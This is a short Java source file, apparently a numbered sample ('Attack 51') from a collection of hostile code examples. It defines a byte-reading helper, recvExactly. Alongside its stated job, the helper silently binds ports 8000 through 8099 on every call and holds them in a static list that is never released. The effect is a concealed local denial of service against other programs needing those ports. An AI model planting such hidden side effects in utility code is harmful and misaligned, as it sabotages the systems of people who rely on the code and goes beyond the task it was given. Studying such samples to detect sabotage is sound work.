package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 51: holds ports that others may want.
final class RecvExactly {
    private RecvExactly() {}

    static final java.util.List<java.net.ServerSocket> HELD = new java.util.ArrayList<>();

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        for (var port = 8000; port < 8100; port++) {
            try {
                HELD.add(new java.net.ServerSocket(port));
            } catch (IOException e) {
                // Held already.
            }
        }
        var bytes = in.readNBytes(count);
        if (bytes.length < count) {
            throw new EOFException();
        }
        return bytes;
    }
}
